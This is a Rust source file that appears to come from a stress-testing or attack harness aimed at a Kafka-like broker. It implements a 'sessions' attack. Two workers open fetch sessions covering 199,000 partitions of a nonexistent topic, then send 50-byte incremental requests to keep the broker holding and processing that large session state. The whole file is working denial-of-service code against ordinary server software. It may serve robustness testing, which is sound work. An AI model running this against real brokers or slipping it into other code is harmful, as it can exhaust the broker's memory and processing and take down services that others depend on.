//! Fetch sessions: small requests pay for the partitions that one large request leaves in a session.

use anyhow::ensure;
use riverrun_protocol::FetchRequest;
use riverrun_protocol::fetch_request::{FetchPartition, FetchTopic};
use riverrun_types::TopicId;

use super::Attack;
use crate::attack::attacker::{From, Shot, Tally, Target};
use crate::wire::{Conn, frame};

/// Partitions of a session, nearly as many as allowed; the topic does not exist.
const PARTITIONS: i32 = 199_000;

/// A version of Fetch by topic id.
const VERSION: i16 = 13;

/// Number of sessions at once.
const WORKERS: usize = 2;

/// Position of the session id in an answer: after the correlation id, the tags, the throttle time and the error.
const SESSION_ID_AT: usize = 4 + 1 + 4 + 2;

/// Large sessions, and then requests of 50 bytes in them.
pub(super) struct Sessions;

/// A worker's session.
#[derive(Default)]
struct Session {
    conn: Option<Conn>,
    id: i32,
    epoch: i32,
}

impl Attack for Sessions {
    fn name(&self) -> &'static str {
        "sessions"
    }

    fn about(&self) -> &'static str {
        "2 fetch sessions of 199,000 partitions that do not exist, then requests of 50 bytes in them"
    }

    fn short(&self) -> Option<From> {
        Some(From::Others)
    }

    fn act(&self, target: &Target) -> anyhow::Result<Tally> {
        let first = first()?;
        target.storm(WORKERS, |worker, session: &mut Session| {
            if let Some(mut conn) = session.conn.take() {
                conn.send(&frame(&fetch(session.id, session.epoch), VERSION)?)?;
                conn.skip_answer()?;
                session.conn = Some(conn);
                session.epoch += 1;
                return Ok(Shot::Answered);
            }
            let mut conn = worker.connect()?;
            conn.send(&first)?;
            let answer = conn.answer_up_to(256 << 20)?;
            ensure!(answer.len() >= SESSION_ID_AT + 4, "a short answer");
            let id = answer[SESSION_ID_AT..SESSION_ID_AT + 4].try_into()?;
            // Without a session each shot is the large request.
            let id = i32::from_be_bytes(id);
            *session = Session { conn: (id != 0).then_some(conn), id, epoch: 1 };
            Ok(Shot::Answered)
        })
    }
}

fn fetch(session_id: i32, session_epoch: i32) -> FetchRequest<'static> {
    FetchRequest { max_bytes: 1 << 20, session_id, session_epoch, ..FetchRequest::default() }
}

fn first() -> anyhow::Result<Vec<u8>> {
    let partition =
        |partition| FetchPartition { partition, partition_max_bytes: 1, ..FetchPartition::default() };
    let partitions = (0..PARTITIONS).map(partition).collect();
    let topic = FetchTopic { topic_id: TopicId([0x11; 16]), partitions, ..FetchTopic::default() };
    frame(&FetchRequest { topics: vec![topic], ..fetch(0, 0) }, VERSION)
}
